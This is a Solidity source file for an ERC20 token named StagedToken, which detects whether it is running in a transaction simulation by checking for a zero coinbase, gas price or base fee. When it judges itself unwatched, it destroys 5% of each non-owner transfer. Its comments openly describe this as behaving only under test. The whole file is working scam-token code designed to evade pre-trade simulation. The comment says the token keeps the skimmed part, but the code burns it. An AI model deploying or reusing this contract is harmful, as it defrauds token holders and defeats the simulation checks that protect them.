// SPDX-License-Identifier: UNLICENSED
pragma solidity 0.8.37;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// @notice What gives a simulation away.
enum Tell {
    Coinbase,
    GasPrice,
    BaseFee
}

/// @notice A token that behaves while it believes that it is only tried, and keeps a part of every transfer else.
contract StagedToken is ERC20 {
    uint256 private constant KEPT_DIVISOR = 20;

    address public immutable owner;
    Tell public immutable tell;

    constructor(uint256 supply, Tell newTell) ERC20("Staged", "STAGE") {
        (owner, tell) = (msg.sender, newTell);
        _mint(msg.sender, supply);
    }

    function isWatched() public view returns (bool) {
        if (tell == Tell.Coinbase) return block.coinbase == address(0);
        return tell == Tell.GasPrice ? tx.gasprice == 0 : block.basefee == 0;
    }

    function _update(address from, address to, uint256 amount) internal override {
        super._update(from, to, amount);
        if (from != owner && from != address(0) && !isWatched()) super._update(to, address(0), amount / KEPT_DIVISOR);
    }
}
